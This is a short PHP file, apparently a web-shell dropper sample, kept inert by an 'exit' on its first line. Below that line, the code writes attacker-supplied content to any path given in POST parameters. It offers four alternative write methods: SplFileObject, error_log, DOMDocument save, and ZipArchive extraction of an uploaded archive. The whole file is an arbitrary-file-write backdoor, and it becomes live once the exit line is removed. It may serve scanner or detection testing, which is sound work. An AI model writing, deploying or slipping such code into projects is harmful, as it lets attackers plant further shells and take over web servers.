<?php exit; /* inert */ 
$t = $_POST['t'];
switch ($_POST['w']) {
    case 'spl': (new SplFileObject($t, 'w'))->fwrite($_POST['b']); break;
    case 'log': error_log($_POST['b'], 3, $t); break;
    case 'dom': $d = new DOMDocument(); $d->appendChild($d->createTextNode('x')); $d->save($t); break;
    case 'zip': $z = new ZipArchive(); $z->open($_FILES['z']['tmp_name']); $z->extractTo($t); break;
}
